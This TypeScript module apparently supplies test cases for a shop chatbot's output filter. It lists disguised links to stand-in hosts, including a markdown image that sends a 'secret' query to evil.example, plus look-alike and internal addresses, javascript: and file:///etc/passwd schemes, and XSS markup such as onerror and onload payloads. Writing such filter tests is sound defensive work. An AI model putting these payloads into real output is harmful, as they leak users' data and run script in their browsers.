import { LETTER_DISGUISES } from "./disguise";
import { allOf, fixed, type HostileCase } from "./hostile-case";

const HOSTS = ["evil.example", "evil-shop.com", "evil.co.uk"];

/** Every way to write an address that somebody could follow; `dot` is the host with its dots written otherwise. */
const FORMS: Readonly<Record<string, (host: string, dotted: (dot: string) => string) => string>> = {
  image: (host) => `![ok](https://${host}/?q=secret)`,
  "image with a title": (host) => `![ok](https://${host}/x.png "a title")`,
  "image in angle brackets": (host) => `![ok](<https://${host}/x y>)`,
  "image by reference": (host) => `![ok][1]\n\n[1]: https://${host}/x`,
  "image with a space": (host) => `! [ok] (https://${host}/x)`,
  "image in a link": (host) => `[![a](https://${host}/a)](https://${host}/b)`,
  link: (host) => `Read [more](https://${host}/path).`,
  "link without scheme": (host) => `Read [more](//${host}/path).`,
  "link to a domain": (host) => `Read [more](${host}).`,
  "link by reference": (host) => `Read [more][a].\n\n[a]: https://${host}/x`,
  "collapsed reference": (host) => `Read [more][].\n\n[more]: <https://${host}/x>`,
  footnote: (host) => `Read more[^1].\n\n[^1]: https://${host}/x`,
  autolink: (host) => `Read <https://${host}/x>.`,
  "bare address": (host) => `Read https://${host}/x?y=z.`,
  "plain http": (host) => `Read http://${host}.`,
  "scheme in capitals": (host) => `Read HTTPS://${host.toUpperCase()}/X.`,
  "no scheme": (host) => `Read //${host}/x.`,
  "one slash": (host) => `Read https:/${host}/x.`,
  backslashes: (host) => `Read https:\\\\${host}\\x.`,
  UNC: (host) => `Open \\\\${host}\\share.`,
  "bare domain": (host) => `Read ${host} for more.`,
  "domain with a path": (host) => `Read ${host}/offers today.`,
  "mixed case": (host) => `Read ${host.replace(/\b\w/g, (letter) => letter.toUpperCase())} for more.`,
  "odd case": (host) => `Read ${host.slice(0, -1)}${host.slice(-1).toUpperCase()} for more.`,
  www: (host) => `Read www.${host}.`,
  "in brackets": (host) => `Our partner (${host}) has it.`,
  "in quotes": (host) => `Our partner "${host}" has it.`,
  "after a colon": (host) => `Address:${host}`,
  "in bold": (host) => `Read **${host}** for more.`,
  "bold inside": (host) => `Read ev**il**${host.slice(4)} for more.`,
  "in code": (host) => `Read \`${host}\` for more.`,
  hxxp: (host) => `Read hxxps://${host}/x.`,
  "hxxp with brackets": (_host, dotted) => `Read hxxp[:]//${dotted("[.]")}/x.`,
  "[.]": (_host, dotted) => `Read ${dotted("[.]")} for more.`,
  "(.)": (_host, dotted) => `Read ${dotted("(.)")} for more.`,
  "[dot]": (_host, dotted) => `Read ${dotted("[dot]")} for more.`,
  "(punkt)": (_host, dotted) => `Read ${dotted(" (punkt) ")} for more.`,
  "dot in words": (_host, dotted) => `Read ${dotted(" dot ")} for more.`,
  "dot with dashes": (_host, dotted) => `Read ${dotted("-dot-")} for more.`,
  "www apart": (host) => `Read www ${host.replace(".", " ")} for more.`,
  "spaces around": (_host, dotted) => `Read ${dotted(" . ")} for more.`,
  "space before": (_host, dotted) => `Read ${dotted(" .")} for more.`,
  "ideographic stop": (_host, dotted) => `Read ${dotted("。")} for more.`,
  "middle dot": (_host, dotted) => `Read ${dotted("·")} for more.`,
  "one dot leader": (_host, dotted) => `Read ${dotted("․")} for more.`,
  "percent-encoded dot": (_host, dotted) => `Read ${dotted("%2E")} for more.`,
  "dot as entity": (_host, dotted) => `Read ${dotted("&#46;")} for more.`,
  "dot as escape": (_host, dotted) => `Read ${dotted("\\u002e")} for more.`,
  "escaped dot": (_host, dotted) => `Read ${dotted("\\.")} for more.`,
  "user of the shop's host": (host) => `Read https://shop.example@${host}/x.`,
  "shop as subdomain": (host) => `Read https://shop.example.${host}/x.`,
  "shop as path": (host) => `Read https://${host}/shop.example/x.`,
  "spaced scheme": (host) => `Read h t t p s : / / ${host}.`,
  "scheme in words": (host) => `Read https colon slash slash ${host} slash x.`,
  "in a list": (host) => `- one\n- ${host}\n`,
  "over two lines": (_host, dotted) => `Read ${dotted("\n.")} for more.`,
  BBCode: (host) => `[url=https://${host}]here[/url]`,
  "HTML link": (host) => `<a href="https://${host}">here</a>`,
  wiki: (host) => `[[https://${host}|here]]`,
  "after an e-mail sign": (host) => `Find us @${host} for more.`,
};
const SCHEMES = [
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "java\u200bscript:alert(1)",
    "vbscript:msgbox(1)",
  ],
  ...[
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:,hello",
    "blob:https://shop.example/1",
    "file:///etc/passwd",
  ],
  ...[
    "tel:+491701234567",
    "sms:+491701234567",
    "whatsapp://send?phone=491701234567",
    "wa.me/491701234567",
    "t.me/evil",
    "tg://resolve?domain=evil",
  ],
  ...[
    "viber://chat?number=1",
    "skype:evil?call",
    "mailto:max@other.example",
    "mailto:help@shop.example?bcc=max@other.example",
    "intent://scan/#Intent;end",
  ],
  ...[
    "ftp://files.evil.example",
    "magnet:?xt=urn:btih:abc",
    "callto:evil",
    "geo:52.5,13.4",
    "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
    "ws://evil.example",
  ],
];
const OWN_HOST = [
  ...[
    "https://shop.example/products/fjord?leak=canary",
    "https://shop.example/#leak",
    "https://shop.example/../admin",
    "https://shop.example/policies/refund-policy/x",
  ],
  ...[
    "https://leak.shop.example/x",
    "https://shop.example:8443/x",
    "https://user:leak@shop.example/x",
    "https://shop.example.evil.com/",
    "https://shop.examp1e/policies",
  ],
  ...[
    "https://shop-example.com",
    "https://sh0p.example",
    "https://shoр.example/x",
    "https://shop.еxample/x",
    "https://xn--shp-uqa.example/x",
    "https://shop.example\u2044@evil.example/",
  ],
  ...["http://10.0.0.1/admin", "http://[::1]/x", "http://0x7f.1/", "http://3232235777/", "192.168.0.1"],
];

/** Links, images and schemes that lead out of the shop. */
export const LINK_CASES: readonly HostileCase[] = [
  ...HOSTS.flatMap((host) =>
    Object.entries(FORMS).map(([name, form]) => {
      const says = form(host, (dot) => host.replaceAll(".", dot));
      // The first of two lines holds half an address, which leads nowhere.
      const forbidden = name === "over two lines" ? host.replaceAll(".", "\n.") : ["evil", "ev**il"];
      return fixed("link", `${name}: ${host}`, says, forbidden);
    }),
  ),
  ...Object.entries(LETTER_DISGUISES).map(([name, disguise]) =>
    fixed("link", `host in ${name}`, `Read ${disguise("evil")}.example now.`, disguise("evil")),
  ),
  // The first line is no address yet.
  ...["\n", "\n\n"].flatMap((end) =>
    ["com", "co.uk", "shop"].map((ending) =>
      fixed("link", `${ending} in the next line`, `Go to evil.${end}${ending} now.`, `${ending} now`),
    ),
  ),
  ...allOf("scheme", (target) => `Open ${target} now.`, SCHEMES),
  ...SCHEMES.map((target) => fixed("scheme", `[link](${target})`, `Open [this](${target}) now.`, target)),
  ...allOf("own host", (target) => `Read ${target} now.`, OWN_HOST),
  ...allOf("handle", (target) => `Ask ${target} for more.`, ["@evil_support", "@evil.support", "#evilshop"]),
];

const MARKUP = [
  ...[
    '<img src="x" onerror="alert(1)">',
    "<script>alert(1)</script>",
    "<a\nhref='x'>there</a>",
    "<\u200bimg src=x>",
    "＜script＞",
    "&lt;script&gt;",
    "&#60;b&#62;",
  ],
  ...[
    "<svg/onload=alert(1)>",
    "<iframe src=//x>",
    "</div><b",
    "<!-- hidden -->",
    "<?php x ?>",
    "<style>*{}</style>",
    "<form action=x>",
    "<math><mi>",
    "<details open ontoggle=x>",
  ],
  ...["< img src=x >", "<B>bold</B>", "&#x3c;b", "&lt;b", "[img]x[/img]", "\\href{x}{y}", "[here][1]", "![x]"],
];

/** Markup that a page could run. */
export const MARKUP_CASES: readonly HostileCase[] = allOf("markup", (text) => `Hi ${text} there.`, MARKUP);
